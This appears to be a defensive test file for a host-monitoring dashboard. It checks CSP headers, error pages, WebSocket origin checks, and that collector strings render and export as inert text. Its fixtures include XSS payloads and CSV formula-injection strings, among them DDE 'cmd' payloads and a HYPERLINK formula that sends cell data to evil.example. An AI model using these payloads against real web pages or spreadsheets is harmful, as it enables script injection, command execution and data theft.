// What a browser gets: security headers on every answer, a nonce-based Content-Security-Policy on
// pages that the real dashboard runs under without a single violation, attacker-controlled strings
// from collectors shown as text (and as text in every exported table, never as a spreadsheet
// formula), and error pages that reveal nothing of the server's insides.
import { readdirSync, readFileSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import path from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { call, enrollHost, signInAdmin, type BrowserSession } from '@/test/helpers/api-client';
import { startAppServer, type AppServer } from '@/test/helpers/app-server';
import { launchBrowser, signInPage } from '@/test/helpers/browser';
import { listener, makeSnapshot } from '@/test/helpers/snapshots';
import { spreadsheetFields, startsAFormula } from '@/test/helpers/spreadsheet';

let server: AppServer;
let admin: BrowserSession;
let browser: Browser | null = null;

// Each payload sets a flag if it ever runs; the page must show it as text instead.
const payloads = {
  process: '<img src=x onerror="window.__xss=1">',
  args: '</script><script>window.__xss=2</script>',
  interface: '<svg onload=window.__xss=3>',
  user: '"><iframe src=javascript:window.__xss=4>',
};

// What a compromised host would send to run code in an analyst's spreadsheet.
const formulas = {
  user: '=HYPERLINK("http://evil.example/?"&A1,"open me")',
  process: "+cmd|' /C calc'!A0",
  args: '@SUM(1+1)*cmd|" /C calc"!A0',
  state: '-2+3',
  tab: '\t=1+1',
  carriageReturn: '\r=1+1',
  afterComma: 'x,=1+1',
  afterSemicolon: 'x;@SUM(1)',
};

beforeAll(async () => {
  server = await startAppServer();
  admin = await signInAdmin(server);
  const csvToken = await enrollHost(server, admin, 'csv-host');
  const formulaSockets = [
    listener(5555, formulas.process, { user: formulas.user, state: formulas.state, pid: 5555 }),
    listener(5556, formulas.tab, { user: formulas.carriageReturn, pid: 5556 }),
    listener(5557, formulas.afterComma, { user: formulas.afterSemicolon, pid: 5557 }),
  ];
  const formulaProcesses = [5555, 5556, 5557].map((pid) => ({
    pid,
    ppid: 1,
    user: formulas.user,
    uid: 0,
    command: formulas.process,
    args: formulas.args,
    startedAt: null,
  }));
  const posted = await call(server, { kind: 'bearer', token: csvToken }, 'POST', '/api/v1/snapshots', {
    json: makeSnapshot('csv-host', { sockets: formulaSockets, processes: formulaProcesses }),
  });
  expect(posted.status).toBe(202);
  const token = await enrollHost(server, admin, 'xss-host');
  const snapshot = makeSnapshot('xss-host', {
    sockets: [listener(22, 'sshd'), listener(6666, payloads.process, { user: payloads.user })],
    processes: [{ pid: 4242, ppid: 1, user: payloads.user, uid: 0, command: payloads.process, args: payloads.args, startedAt: null }],
    interfaces: [{ name: payloads.interface, flags: ['UP', 'PROMISC'], promiscuous: true, mtu: 1500, mac: null, addresses: [] }],
  });
  const first = await call(server, { kind: 'bearer', token }, 'POST', '/api/v1/snapshots', { json: makeSnapshot('xss-host') });
  const second = await call(server, { kind: 'bearer', token }, 'POST', '/api/v1/snapshots', { json: snapshot });
  expect([first.status, second.status]).toEqual([202, 202]);
});
afterAll(async () => {
  await browser?.close();
  await server?.dispose();
});

function directives(policy: string | null): Map<string, string[]> {
  const map = new Map<string, string[]>();
  for (const part of (policy ?? '').split(';')) {
    const [name, ...values] = part.trim().split(/\s+/);
    if (name) map.set(name, values);
  }
  return map;
}

describe('headers', () => {
  it('every page has a fresh-nonce CSP without unsafe-inline scripts, framing forbidden, and every script carries the nonce', async () => {
    const nonces = new Set<string>();
    for (const pagePath of ['/login', '/', '/hosts/xss-host', '/no-such-page']) {
      const result = await call(server, pagePath === '/login' ? { kind: 'anonymous' } : admin, 'GET', pagePath);
      expect(result.status, pagePath).toBe(pagePath === '/no-such-page' ? 404 : 200);
      const policy = directives(result.headers.get('content-security-policy'));
      const scriptSources = policy.get('script-src') ?? [];
      expect(scriptSources, pagePath).not.toContain("'unsafe-inline'");
      expect(scriptSources, pagePath).not.toContain("'unsafe-eval'");
      const nonce = scriptSources.find((source) => source.startsWith("'nonce-"))?.slice(7, -1);
      expect(nonce, pagePath).toMatch(/^[A-Za-z0-9+/]{22}==$/);
      nonces.add(nonce!);
      expect(policy.get('frame-ancestors')).toEqual(["'none'"]);
      expect(policy.get('object-src')).toEqual(["'none'"]);
      expect(policy.get('base-uri')).toEqual(["'none'"]);
      const scripts = [...result.text.matchAll(/<script\b[^>]*>/g)].map((match) => match[0]);
      expect(scripts.length, pagePath).toBeGreaterThan(0);
      for (const script of scripts) expect(script, pagePath).toContain(`nonce="${nonce}"`);
      expect(result.headers.get('x-content-type-options')).toBe('nosniff');
      expect(result.headers.get('x-frame-options')).toBe('DENY');
      expect(result.headers.get('referrer-policy')).toBe('same-origin');
    }
    expect(nonces.size).toBe(4);
  });

  it('API, health and metrics answers load nothing, are never framed or sniffed', async () => {
    for (const [credential, pagePath] of [
      [admin, '/api/v1/hosts'],
      [{ kind: 'anonymous' }, '/api/v1/hosts'],
      [admin, '/api/v1/hosts/xss-host/sockets.csv'],
      [{ kind: 'anonymous' }, '/healthz'],
      [{ kind: 'anonymous' }, '/metrics'],
    ] as const) {
      const result = await call(server, credential, 'GET', pagePath);
      expect(result.headers.get('content-security-policy'), pagePath).toBe("default-src 'none'; frame-ancestors 'none'");
      expect(result.headers.get('x-content-type-options'), pagePath).toBe('nosniff');
      expect(result.headers.get('x-frame-options'), pagePath).toBe('DENY');
      expect(result.headers.get('referrer-policy'), pagePath).toBe('same-origin');
      expect(result.headers.get('x-powered-by'), pagePath).toBeNull();
    }
  });

  it('socket.io refuses a WebSocket opened by a page of another origin', async () => {
    const { io } = await import('socket.io-client');
    const connectFrom = (origin: string) =>
      new Promise<string>((resolve) => {
        const socket = io(server.url, { transports: ['websocket'], reconnection: false, extraHeaders: { cookie: admin.cookie, origin } });
        socket.once('connect', () => {
          socket.close();
          resolve('connected');
        });
        socket.once('connect_error', () => resolve('refused'));
      });
    expect(await connectFrom('https://evil.example')).toBe('refused');
    expect(await connectFrom(server.url)).toBe('connected');
  });
});

describe('error answers', () => {
  it('a page that fails inside the database shows a generic error, never the database message or a stack', async () => {
    const result = await call(server, admin, 'GET', '/hosts/bad%00name');
    expect(result.status).toBeGreaterThanOrEqual(400);
    expect(result.text).not.toMatch(/invalid byte sequence|Prisma|\n\s+at |node_modules|\/work\//);
  });

  it('a path with a broken percent-escape is a 400, not a crash', async () => {
    expect((await call(server, admin, 'GET', '/hosts/%ff')).status).toBe(400);
    const api = await call(server, admin, 'GET', '/api/v1/hosts/%ff');
    expect(api.status).toBe(400);
    expect(api.body.error.code).toBe('bad_request');
  });
});

describe('exported tables', () => {
  it('sockets.csv (the pipe table): no cell a spreadsheet would run, however it splits the lines', async () => {
    const result = await call(server, admin, 'GET', '/api/v1/hosts/csv-host/sockets.csv');
    expect(result.status).toBe(200);
    expect(result.text.split('\n')[0]).toBe('login|uid|command|ppid|pid|type|protocol|state|src_ip|src_port|dst_ip|dst_port');
    for (const delimiter of ['|', ',', ';', '\t']) {
      expect(spreadsheetFields(result.text, delimiter).filter(startsAFormula), `split on ${JSON.stringify(delimiter)}`).toEqual([]);
    }
    // The values are all there, shown as text.
    const cells = spreadsheetFields(result.text, '|');
    expect(cells).toContain(`'${formulas.user}`);
    expect(cells).toContain(`'${formulas.process}`);
    expect(cells).toContain(`'${formulas.state}`);
  });
});

describe('source', () => {
  it('has no raw-HTML escape hatch anywhere in pages, components or server code', () => {
    const offenders: string[] = [];
    const walk = (directory: string) => {
      for (const entry of readdirSync(directory, { withFileTypes: true })) {
        const full = path.join(directory, entry.name);
        if (entry.isDirectory()) {
          if (entry.name !== 'generated' && entry.name !== 'node_modules') walk(full);
        } else if (
          /\.(tsx?|jsx?)$/.test(entry.name) &&
          /dangerouslySetInnerHTML|\.innerHTML\s*=|\.outerHTML\s*=|insertAdjacentHTML|document\.write\(/.test(readFileSync(full, 'utf8'))
        ) {
          offenders.push(full);
        }
      }
    };
    for (const directory of ['app', 'components', 'lib']) walk(directory);
    expect(offenders).toEqual([]);
  });
});

describe('in a real browser', () => {
  let page: import('playwright-core').Page;
  const consoleViolations: string[] = [];

  async function pageState() {
    return page.evaluate(() => ({
      xss: (window as unknown as { __xss?: number }).__xss ?? null,
      violations: (window as unknown as { __violations?: string[] }).__violations ?? [],
      injectedImages: document.querySelectorAll('img[src="x"]').length,
      injectedFrames: document.querySelectorAll('iframe').length,
      injectedSvg: document.querySelectorAll('svg[onload]').length,
    }));
  }
  const clean = { xss: null, violations: [], injectedImages: 0, injectedFrames: 0, injectedSvg: 0 };

  it('the dashboard signs in (so its scripts ran) under the CSP, with no violation', async () => {
    browser = await launchBrowser();
    page = await browser.newPage();
    page.on('console', (message) => {
      if (/Content.Security.Policy|Refused to/i.test(message.text())) consoleViolations.push(message.text());
    });
    await page.addInitScript(() => {
      document.addEventListener('securitypolicyviolation', (event) => {
        const store = window as unknown as { __violations?: string[] };
        (store.__violations ??= []).push(`${event.violatedDirective} ${event.blockedURI}`);
      });
    });
    await signInPage(page, server);
    await page.getByRole('link', { name: 'xss-host' }).first().waitFor({ timeout: 20_000 });
    expect(await pageState()).toEqual(clean);
    expect(consoleViolations).toEqual([]);
  });

  it("the host page's CSV export holds no cell a spreadsheet would run", async () => {
    await page.goto(`${server.url}/hosts/csv-host`);
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export CSV' }).click()]);
    const csv = await readFile(await download.path(), 'utf8');
    for (const delimiter of [',', ';', '\t'])
      expect(spreadsheetFields(csv, delimiter).filter(startsAFormula), `split on ${JSON.stringify(delimiter)}`).toEqual([]);
    // The listening tab's rows (5556, 5557), their command lines included, shown as text.
    expect(spreadsheetFields(csv, ',')).toEqual(expect.arrayContaining([`'${formulas.args}`, "x,'=1+1", "x;'@SUM(1)"]));
  });

  it('the host page shows collector strings as text: nothing injected, nothing run', async () => {
    await page.goto(`${server.url}/hosts/xss-host`);
    await page.getByText(payloads.process, { exact: false }).first().waitFor({ timeout: 20_000 });
    expect(await pageState()).toEqual(clean);
    expect(consoleViolations).toEqual([]);
  });
});
